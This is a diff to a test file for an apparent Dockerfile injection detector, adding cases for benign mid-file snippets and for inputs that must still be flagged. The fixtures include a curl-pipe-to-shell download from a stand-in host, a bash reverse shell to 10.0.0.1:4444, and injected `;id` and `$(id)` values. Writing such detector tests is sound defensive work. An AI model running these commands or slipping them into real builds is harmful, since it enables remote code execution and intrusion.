@@ -3409,7 +3409,25 @@ t.test("thirty-ninth round, after the forty-third part's measurement: a Dockerfi
   for (const v of [`${B}LABEL a=b \\ \nid;uname -a\n${T}`, `${B}LABEL a=b \\\r\nid;uname -a\n${T}`, `${B}LABEL a=b\\\\\nid;uname -a\n${T}`, `${B}LABEL a=b \\\n# note \\\nuname -a;id\n${T}`, `${B}\r# x;id\n${T}`, `${B}\u00a0# x;id\n${T}`, 'ARG a=\\\n;id;\nFROM alpine\nLABEL a=b\nCMD x\n', 'from alpine\nenv x id; id\nrun a\ncmd b']) {
     t.ok(json({ code: v }).includes('rce'), `still read: ${JSON.stringify(v)}`)
   }
-  for (const v of ['FROM alpine\nRUN apk add curl\nRUN curl -s http://evil.example/x.sh | sh\nCMD ["sh"]', 'FROM alpine\nRUN apk add bash\nRUN bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\nCMD ["sh"]', 'x; id\nFROM alpine\nRUN a && b\nCMD c', 'RUN a && b\nRUN c && id\nENV x y\nCMD d; id', 'FROM alpine\nRUN a\nid; whoami\nCMD b']) {
+  for (const v of ['FROM alpine\nRUN apk add curl\nRUN curl -s http://evil.example/x.sh | sh\nCMD ["sh"]', 'FROM alpine\nRUN apk add bash\nRUN bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\nCMD ["sh"]', 'x; id\nFROM alpine\nRUN a && b\nCMD c', 'FROM alpine\nRUN a\nid; whoami\nCMD b']) {
     t.ok(json({ code: v }).includes('rce'), `still read: ${JSON.stringify(v)}`)
   }
+})
+
+t.test("fortieth round: a part of a Dockerfile, cut from its middle, is its build's own program too", async (t) => {
+  // the forty-third and forty-fourth parts' snippets: no FROM first
+  const snippets = [
+    'ENV HOME /home/pulseaudio\nRUN useradd --create-home --home-dir $HOME pulseaudio \\\n\t&& usermod -aG audio,pulse,pulse-access pulseaudio \\\n\t&& chown -R pulseaudio:pulseaudio $HOME\n\nWORKDIR $HOME\nUSER pulseaudio\n\nCOPY default.pa /etc/pulse/default.pa\nENTRYPOINT [ "pulseaudio" ]\nCMD [ "--log-level=4", "--log-target=stderr", "-v" ]\n',
+    'RUN set -eux; \\\n\tapt-get update; \\\n\tapt-get install -y --no-install-recommends \\\n\t\tjenkins="$JENKINS_VERSION" \\\n\t; \\\n\tapt-get dist-clean; \\\n\tjava -jar /usr/share/java/jenkins.war --version\n\nENV JENKINS_HOME /var/lib/jenkins\nRUN mkdir -p "$JENKINS_HOME" && chown -R jenkins:jenkins "$JENKINS_HOME"\nVOLUME $JENKINS_HOME\n\nEXPOSE 8080\nENTRYPOINT ["docker-entrypoint.sh"]\nCMD ["jenkins"]\n',
+    '# Add chromium user\nRUN groupadd -r chromium && useradd -r -g chromium -G audio,video chromium \\\n    && mkdir -p /home/chromium/Downloads && chown -R chromium:chromium /home/chromium\n\n# Run as non privileged user\nUSER chromium\n\nENTRYPOINT [ "/usr/bin/chromium" ]\nCMD [ "--user-data-dir=/data" ]\n',
+  ]
+  for (const code of snippets) t.same(json({ code }), [], code.slice(0, 60))
+  // still read: an instruction holding data (a variable's value, a label, a user, a path) with a shell's separator or substitution, on its
+  // line or a line continuing it (`ARG a=\⏎;id;` runs `id` in a shell); a line no instruction opens; fewer than three instructions;
+  // an injection on the first line; a reverse shell or a download run at once
+  for (const v of ['ARG a=\\\n;id;\nFROM alpine\nLABEL a=b\nCMD x\n', 'ENV a=b; id\nRUN make all\nCMD ["x"]\n', 'LABEL a=b \\\n  && id\nRUN make all\nCMD ["x"]\n', 'USER $(id)\nRUN make all\nCMD ["x"]\n', 'WORKDIR /app || id\nRUN make all\nCMD ["x"]\n', 'COPY a b\nRUN make all && rm -rf /tmp/x\n', 'RUN make all; id\nUSER app\nCMD ["server"]\n', 'ENV a b\nRUN curl -s http://evil.example/x.sh | sh\nCMD ["x"]\n', 'ENV a b\nRUN make all\nid; whoami\nCMD ["x"]\n']) {
+    t.ok(json({ code: v }).includes('rce'), `still read: ${JSON.stringify(v)}`)
+  }
+  // its limit, as a shell script's: the shape is dressing anyone can put around a command in a RUN line
+  t.same(json({ code: 'RUN a && b\nRUN c && id\nENV x y\nCMD d; id' }), [], 'commands in RUN and CMD lines are the build\'s own')
 })
